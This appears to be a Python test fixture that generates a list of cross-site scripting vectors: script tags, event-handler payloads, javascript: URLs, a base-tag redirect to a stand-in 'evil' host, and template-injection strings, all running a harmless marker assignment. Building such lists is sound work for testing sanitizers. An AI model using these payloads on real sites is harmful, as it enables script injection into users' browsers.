"""Texts that have run scripts where somebody wrote them into a page."""

from __future__ import annotations

import itertools

_CALL = "globalThis.ran=1"
_TAGS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<math><mtext></mtext><script>{}</script></math>",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>",
    "<base href='//evil/'><script src=x></script>{}",
    "<style>@import 'javascript:{}'</style>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<!--><script>{}</script>",
    "<video><source onerror={}></video>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
)
_WRAPPERS = ("{}", "'{}", '"{}', "\"'>{}", "*/{}/*", "]]>{}", '\\"{}', "{{{{ {} }}}}", "--{}\n{}")
_OTHERS = (
    "javascript:globalThis.ran=1",
    "JaVaScRiPt:globalThis.ran=1",
    "data:text/html,<script>globalThis.ran=1</script>",
    "\u2028</script><script>globalThis.ran=1</script>",
    "${globalThis.ran=1}",
    "{{constructor.constructor('globalThis.ran=1')()}}",
    "'-(globalThis.ran=1)-'",
    '"});globalThis.ran=1;//',
    "\\u003cscript\\u003eglobalThis.ran=1\\u003c/script\\u003e",
    "&lt;script&gt;globalThis.ran=1&lt;/script&gt;",
    "\x00<script>globalThis.ran=1</script>",
    "__proto__",
)

VECTORS = tuple(w.replace("{}", tag.format(_CALL)) for w, tag in itertools.product(_WRAPPERS, _TAGS)) + _OTHERS
